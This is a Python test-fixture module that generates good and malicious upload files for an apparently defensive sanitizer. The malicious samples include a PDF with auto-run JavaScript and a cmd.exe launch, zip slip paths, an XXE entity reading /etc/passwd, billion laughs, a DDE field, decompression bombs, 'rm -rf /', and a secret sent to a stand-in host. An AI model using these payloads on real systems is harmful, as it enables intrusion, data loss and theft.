"""Files that somebody could send: good ones, and as many kinds of bad ones as can be made here."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

SECRET = "Kanarie-in-het-bestand"
# Split, so that this file itself is no find for a scanner.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ODT_TYPE = "application/vnd.oasis.opendocument.text"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns"


def picture(kind="JPEG", size=(60, 40), mode="RGB", **more):
    out = io.BytesIO()
    Image.new(mode, size, 90).save(out, kind, **more)
    return out.getvalue()


def photo_with_place():
    """As a phone makes it: lying on its side, with where it was and with what."""
    image = Image.new("RGB", (60, 40), "white")
    image.putpixel((0, 0), (0, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x010F] = "Fabrikant van de telefoon"
    exif[0x9286] = SECRET
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 5.0, 1.0), 3: "E", 4: (5.0, 7.0, 1.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=SECRET.encode(), quality=95)
    return out.getvalue()


def _chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def pixel_flood(side=60_000):
    """A few kilobytes that say they are 3.6 thousand million pixels."""
    head = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    )


def png_with_words():
    whole = picture("PNG")
    return whole[:33] + _chunk(b"tEXt", b"Comment\0" + SECRET.encode()) + whole[33:]


def pdf(pages=1, change=None, **saving):
    made = pikepdf.Pdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def script(code="app.alert(1)"):
    return Dictionary(S=Name.JavaScript, JS=code)


def acting_pdf():
    """Everything that a PDF can do by itself, and what it can carry."""

    def change(made):
        root, page = made.Root, made.pages[0].obj
        made.docinfo["/Author"] = SECRET
        root.OpenAction = script()
        root.AA = Dictionary(WC=script())
        root.URI = Dictionary(Base="http://elders.example/")
        page.AA = Dictionary(O=Dictionary(S=Name.Launch, F="cmd.exe", Next=script()))
        page.Metadata = made.make_stream(f"<x>{SECRET}</x>".encode())
        inside = made.make_stream(SECRET.encode(), Type=Name.EmbeddedFile)
        spec = made.make_indirect(
            Dictionary(Type=Name.Filespec, F="x.exe", EF=Dictionary(F=inside))
        )
        root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array(["go", script()])),
            EmbeddedFiles=Dictionary(Names=Array(["x", spec])),
        )
        field = made.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="naam", V="Samir",
                Rect=[0, 0, 9, 9], AA=Dictionary(K=script("AFNumber_Keystroke()")),
            )
        )  # fmt: skip
        root.AcroForm = Dictionary(
            Fields=Array([field]), XFA=made.make_stream(b"<xdp/>"), CO=Array([field])
        )
        submit = Dictionary(S=Name.SubmitForm, F="http://elders.example/")
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=submit)
        far = Dictionary(S=Name.URI, URI="file://elders.example/")
        other = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=far, PA=far)
        clip = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
        page.Annots = Array([field, made.make_indirect(link), other, clip])

    return pdf(change=change)


def drawn_form(made):
    """Its page asks to wait until a program has drawn it."""
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def package(parts, *, first=None, how=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as made:
        if first:
            made.writestr(zipfile.ZipInfo("mimetype"), first)
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def docx(body="", *, declared="", **parts):
    """Parts by name; `_` for a part whose name is no word in Python."""
    document = (
        f'<?xml version="1.0"?>{declared}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p>'
        f"<w:r><w:t>Hallo</w:t></w:r>{body}</w:p></w:body></w:document>"
    )
    return package({"[Content_Types].xml": TYPES, "word/document.xml": document} | parts)


def relation(kind, target, mode=' TargetMode="External"'):
    line = f'<Relationship Id="r1" Type="{R}/{kind}" Target="{target}"{mode}/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{line}</Relationships>'}


def shows_picture(name, content):
    """A document with a picture that is pointed at, as every picture that is seen."""
    body = f'<w:r><w:drawing><a:blip xmlns:a="{A}" r:embed="r1"/></w:drawing></w:r>'
    return docx(body, **relation("image", f"media/{name}", ""), **{f"word/media/{name}": content})


def odt(body="", *, first=ODT_TYPE, **parts):
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{OFFICE}:office:1.0" '
        f'xmlns:text="{OFFICE}:text:1.0" xmlns:draw="{OFFICE}:drawing:1.0" '
        f'xmlns:script="{OFFICE}:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text><text:p>Hallo</text:p>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    return package({"content.xml": content} | parts, first=first)


def nested(levels=3):
    inside = package({"x.txt": "x"})
    for level in range(levels):
        inside = package({f"{level}.zip": inside})
    return inside


def zip_link():
    info = zipfile.ZipInfo("word/media/weg.xml")
    info.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", TYPES)
        made.writestr("word/document.xml", "<x/>")
        made.writestr(info, "/etc/passwd")
    return out.getvalue()


LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
DDE = "<w:r><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r>"
# name -> (bytes, why it is refused)
REFUSED = {
    "nothing": (b"", "empty"),
    "only spaces": (b" \n\t ", "empty"),
    "more than ten megabytes": (b"a" * (10 * 1024 * 1024 + 1), "too_big"),
    "SVG with a script": (
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>",
        "markup",
    ),
    "SVG after a heading": (b"Beste mensen\n<svg onload=x()>", "markup"),
    "a web page": (b"\xef\xbb\xbf  <!DOCTYPE html><html><script>x()</script>", "markup"),
    "XML that asks for a file": (b'<?xml version="1.0"?>' + OUTSIDE_ENTITY.encode(), "markup"),
    "a program for Windows": (b"MZ\x90\x00" + b"\0" * 100, "program"),
    "a program for Linux": (b"\x7fELF" + b"\0" * 100, "program"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "a packed folder": (nested(0), "archive"),
    "a folder in a folder": (nested(), "archive"),
    "other packed folders": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "archive"),
    "an empty packed folder": (b"PK\x05\x06" + b"\0" * 18, "archive"),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    "RTF": (b"{\\rtf1{\\object\\objupdate}}", "old_office"),
    "a photo of an iPhone": (b"\0\0\0\x18ftypheic" + b"\0" * 50, "heic"),
    "a photo of a newer telephone": (b"\0\0\0\x1cftypavif" + b"\0" * 50, "heic"),
    "a film": (b"\0\0\0\x18ftypisom" + b"\0" * 50, "video"),
    "GIF": (picture("GIF", mode="L"), "image_kind"),
    "BMP": (picture("BMP"), "image_kind"),
    "bytes of no kind": (bytes(range(256)) * 10, "unknown"),
    "hidden signs in a text": ("factuur\u202efdp.exe".encode(), "hidden_signs"),
    "a BSN in a text": (b"Het nummer is 111222333.", "bsn"),
    "an endless text": (b"a " * 150_000, "too_much_text"),
    "pixel flood": (pixel_flood(), "too_many_pixels"),
    "41 megapixels": (picture("PNG", (8200, 5000), "1"), "too_many_pixels"),
    "half a photo": (photo_with_place()[:400], "broken_image"),
    "the beginning of a photo": (b"\xff\xd8\xff\xe0" + b"x" * 500, "broken_image"),
    "a PNG that is none": (b"\x89PNG\r\n\x1a\n" + b"<svg/>" * 40, "broken_image"),
    "a PDF that is none": (b"%PDF-1.7\n<script>alert(1)</script>", "broken"),
    "a PDF without pages": (pdf(0), "broken"),
    "a PDF with a password": (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "locked"),
    "a PDF that only the maker may change": (
        pdf(encryption=pikepdf.Encryption(owner="a", user="")), "sealed",
    ),
    "a form that only one program draws": (pdf(change=drawn_form), "hidden_form"),
    "a PDF of 301 pages": (pdf(301), "too_many_pages"),
    "bomb in a DOCX": (
        docx(**{"word/bom.xml": "<x>" + " " * 30_000_000 + "</x>"}),
        "unpacks_too_big",
    ),
    "many parts": (docx(**{f"word/{n}.xml": "<x/>" for n in range(2_100)}), "unpacks_too_big"),
    "zip slip": (docx(**{"../../etc/cron.d/x.xml": "<x/>"}), "outside"),
    "an absolute name": (docx(**{"/etc/x.xml": "<x/>"}), "outside"),
    "a name of Windows": (docx(**{"C:/x.xml": "<x/>"}), "outside"),
    "a link in the folder": (zip_link(), "outside"),
    "macros": (docx(**{"word/vbaProject.bin": "x"}), "macros"),
    "a file in a document": (docx(**{"word/embeddings/blad.xlsx": nested()}), "macros"),
    "a folder in a document": (shows_picture("x.zip", nested()), "odd_part"),
    "a drawing in a document": (shows_picture("x.emf", b"x"), "odd_part"),
    "a font in a document": (
        docx("<w:r><w:embedRegular r:id='r1'/></w:r>", **relation("font", "fonts/f.odttf", "")),
        "odd_part",
    ),
    "a picture from elsewhere": (
        docx(**relation("image", "http://elders.example/x.png")), "fetches",
    ),
    "a link to a file share": (docx(**relation("hyperlink", "file://elders/x")), "fetches"),
    "a field that starts a program": (docx(DDE), "fetches"),
    "a thousand laughs": (docx("&b;", declared=LAUGHS), "broken"),
    "an entity from elsewhere": (docx("&a;", declared=OUTSIDE_ENTITY), "broken"),
    "a flood of pixels in a document": (shows_picture("x.png", pixel_flood()), "too_many_pixels"),
    "a document with a macro type": (
        docx(**{"[Content_Types].xml": "<x>application/vnd.ms-word.document.macroEnabled</x>"}),
        "macros",
    ),
    "macros in ODT": (odt(**{"Basic/Standard/x.xml": "<x/>"}), "macros"),
    "a listener in ODT": (
        odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "macros",
    ),
    "an object in ODT": (odt('<draw:object xlink:href="./Object 1"/>'), "macros"),
    "a picture from elsewhere in ODT": (
        odt('<draw:image xlink:href="http://elders.example/x.png"/>'), "fetches",
    ),
    "a template of ODT": (odt(first=f"{ODT_TYPE}-template"), "macros"),
    "a spreadsheet": (odt(first="application/vnd.oasis.opendocument.spreadsheet"), "archive"),
}  # fmt: skip
# name -> a document from which something goes that nobody sees
LEFT_OUT = {
    "a folder that nothing points at": docx(**{"word/media/x.zip": SECRET}),
    "a drawing that nothing points at": docx(**{"word/media/x.emf": SECRET}),
    "data behind a form": docx(**{"customXml/item1.xml": f"<x>{SECRET}</x>"}),
    "settings of a printer": docx(**{"word/printerSettings1.bin": SECRET}),
    "a template from elsewhere": docx(
        **relation("attachedTemplate", f"http://elders.example/{SECRET}.dotm")
    ),
}
GOOD = {
    "pdf": (pdf(), "pdf"),
    "jpeg": (picture(), "jpg"),
    "grey jpeg": (picture(mode="L"), "jpg"),
    "for print": (picture(mode="CMYK"), "jpg"),
    "png": (picture("PNG"), "png"),
    "see-through png": (picture("PNG", mode="RGBA"), "png"),
    "few colours": (picture("PNG", mode="P"), "png"),
    "webp": (picture("WEBP"), "jpg"),
    "see-through webp": (picture("WEBP", mode="RGBA"), "png"),
    "forty megapixels": (picture("PNG", (8000, 5000), "1"), "png"),
    "docx": (docx(**{"word/media/foto.jpeg": photo_with_place()}), "docx"),
    "docx with a link": (docx(**relation("hyperlink", "https://www.rijksoverheid.nl/")), "docx"),
    "docx with a logo of old": (shows_picture("x.gif", picture("GIF", mode="L")), "docx"),
    "odt": (odt('<text:a xlink:href="https://www.rijksoverheid.nl/">x</text:a>'), "odt"),
    "text": ("Beste Samir,\r\nTot dinsdag. Café.".encode(), "txt"),
    "text of old Windows": ("Café".encode("cp1252"), "txt"),
    "a text that looks like a formula": (b"=1+1\n@SUM(A1)", "txt"),
}
